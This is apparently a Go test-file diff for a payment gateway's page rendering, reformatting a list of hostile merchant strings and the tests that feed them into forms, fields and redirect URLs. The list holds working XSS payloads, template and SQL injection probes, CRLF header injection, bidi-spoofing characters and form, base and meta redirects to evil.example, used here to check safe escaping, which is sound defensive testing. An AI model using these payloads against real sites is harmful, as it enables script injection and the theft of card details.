@@ -14,20 +14,30 @@ import (
 
 // hostile are merchant texts that try to become more than text.
 var hostile = []string{
-	`</script><img src=x onerror=alert(1)>`, `{{.}}`, `{{template "content"}}`, `${7*7}`, `" onfocus=alert(1) autofocus x="`,
+	`</script><img src=x onerror=alert(1)>`, `{{.}}`, `{{template "content"}}`, `${7*7}`,
+	`" onfocus=alert(1) autofocus x="`,
 	`' onclick='alert(1)`, "\u2028alert(1)\u2029", `<svg/onload=alert(1)>`, `--><script>alert(1)</script><!--`,
 	`</title><script>alert(1)</script>`, `</bdi></p></section><form action=//evil.example>`, `javascript:alert(1)`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#x3c;img src=x&#x3e;`, "\x00<b>", "\xff\xfe<i>", "a\u202egnp.exe", "\u2066\u2069\u2069<u>",
+	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#x3c;img src=x&#x3e;`, "\x00<b>", "\xff\xfe<i>", "a\u202egnp.exe",
+	"\u2066\u2069\u2069<u>",
 	`<![CDATA[<b>]]>`, `<?xml version="1.0"?>`, "`<img src=x>`", `%3Cscript%3E`, `<base href=//evil.example>`,
-	`<meta http-equiv=refresh content=0;url=//evil.example>`, "line\r\nSet-Cookie: a=b", `</style><link rel=stylesheet href=//evil.example>`,
+	`<meta http-equiv=refresh content=0;url=//evil.example>`, "line\r\nSet-Cookie: a=b",
+	`</style><link rel=stylesheet href=//evil.example>`,
 	`<textarea><plaintext>`, strings.Repeat("<", 300),
-	`<script>alert(1)</script>`, `</option></select><b>`, `</label><input name=cvv>`, `</fieldset></form><form action=/x>`, `</dd></dl><hr>`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
-	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<object data=data:text/html,x>`, `<embed src=//evil.example>`,
-	`<a href="&#106;avascript:alert(1)">x</a>`, `<input autofocus onfocus=alert(1)>`, `<template><b>`, `<details open ontoggle=alert(1)>`,
-	`data:text/html,<script>alert(1)</script>`, `{{define "content"}}x{{end}}`, `{{.T.Pay}}`, `%s%d%!v(MISSING)`, `' or 1=1 --`, `\"><b>`,
-	`\u003cb\u003e`, "\u200f\u200e\u061c<b>", "\ufeff<b>", "\x1b[31m<b>", "\x7f\u0085<b>", "Z\u0351\u0362\u035b\u0321<b>", "\U000e0041<b>", "&#0;&#x202e;<b>",
-	`<select><option>`, `<button form=pay formaction=//evil.example>`, `<img src='x' srcset=//evil.example>`, `<!--[if IE]><b><![endif]-->`,
+	`<script>alert(1)</script>`, `</option></select><b>`, `</label><input name=cvv>`,
+	`</fieldset></form><form action=/x>`, `</dd></dl><hr>`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
+	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<object data=data:text/html,x>`,
+	`<embed src=//evil.example>`,
+	`<a href="&#106;avascript:alert(1)">x</a>`, `<input autofocus onfocus=alert(1)>`, `<template><b>`,
+	`<details open ontoggle=alert(1)>`,
+	`data:text/html,<script>alert(1)</script>`, `{{define "content"}}x{{end}}`, `{{.T.Pay}}`, `%s%d%!v(MISSING)`,
+	`' or 1=1 --`, `\"><b>`,
+	`\u003cb\u003e`, "\u200f\u200e\u061c<b>", "\ufeff<b>", "\x1b[31m<b>", "\x7f\u0085<b>",
+	"Z\u0351\u0362\u035b\u0321<b>", "\U000e0041<b>", "&#0;&#x202e;<b>",
+	`<select><option>`, `<button form=pay formaction=//evil.example>`, `<img src='x' srcset=//evil.example>`,
+	`<!--[if IE]><b><![endif]-->`,
 }
 
 func TestEnoughHostileStrings(t *testing.T) {
@@ -89,7 +99,8 @@ func TestHostileTexts(t *testing.T) {
 	for name, turn := range map[string]gateway.Turn{
 		"form": formTurn(), "wait": with(func(t *gateway.Turn) { t.Kind = gateway.TurnWait }),
 		"forward": with(func(t *gateway.Turn) {
-			t.Kind, t.Next = gateway.TurnForward, &store.Next{Method: "POST", URL: "https://acs.example/", Params: []store.NextParam{{Name: "a", Value: "b"}}}
+			t.Kind, t.Next = gateway.TurnForward, &store.Next{Method: "POST", URL: "https://acs.example/",
+				Params: []store.NextParam{{Name: "a", Value: "b"}}}
 		}),
 		"leave": with(func(t *gateway.Turn) {
 			t.Kind, t.URL, t.Target = gateway.TurnLeave, "https://shop.example/?x=", "_top"
@@ -132,7 +143,8 @@ func fill(turn gateway.Turn, text string) gateway.Turn {
 	}
 	turn.Methods = slices.Clone(turn.Methods)
 	for i, method := range turn.Methods {
-		turn.Methods[i] = gateway.MethodChoice{Code: text, Name: text, Kind: method.Kind, Asks: fillAsks(method.Asks, text), Fields: fillFields(method.Fields, text)}
+		turn.Methods[i] = gateway.MethodChoice{Code: text, Name: text, Kind: method.Kind, Asks: fillAsks(method.Asks, text),
+			Fields: fillFields(method.Fields, text)}
 	}
 	turn.Asks = fillAsks(turn.Asks, text)
 	if turn.Show != nil {
@@ -170,7 +182,8 @@ func TestHostilePayers(t *testing.T) {
 		for _, field := range turn.Methods[0].Fields {
 			form.Set("payer.card."+field.Path, text)
 		}
-		for name, value := range map[string]string{"amount": text, "payee_card": text, "name": text, "expiry": text, "card_number": text, "saved": "0", "payer.card.billing_address.country": "US"} {
+		for name, value := range map[string]string{"amount": text, "payee_card": text, "name": text, "expiry": text,
+			"card_number": text, "saved": "0", "payer.card.billing_address.country": "US"} {
 			form.Set(name, value)
 		}
 		w := call(&kernel{turn: turn}, "POST", "/auth/"+token, form.Encode())
@@ -205,7 +218,8 @@ func TestHostileURLs(t *testing.T) {
 	t.Parallel()
 	for _, text := range append([]string{
 		"javascript:alert(1)", "data:text/html,x", "//evil.example", "https:evil.example", "https://", "https://a@b.example/",
-		"https://shop.example\\@evil.example/", "https://shop.example/\r\nX: y", "ftp://shop.example/", " https://shop.example/", "https://[::1/",
+		"https://shop.example\\@evil.example/", "https://shop.example/\r\nX: y", "ftp://shop.example/",
+		" https://shop.example/", "https://[::1/",
 	}, hostile...) {
 		w := show(t, with(func(t *gateway.Turn) { t.Kind, t.URL, t.Status = gateway.TurnLeave, text, gateway.LeftPaid }))
 		require.Equal(t, 200, w.Code, "%q", text)
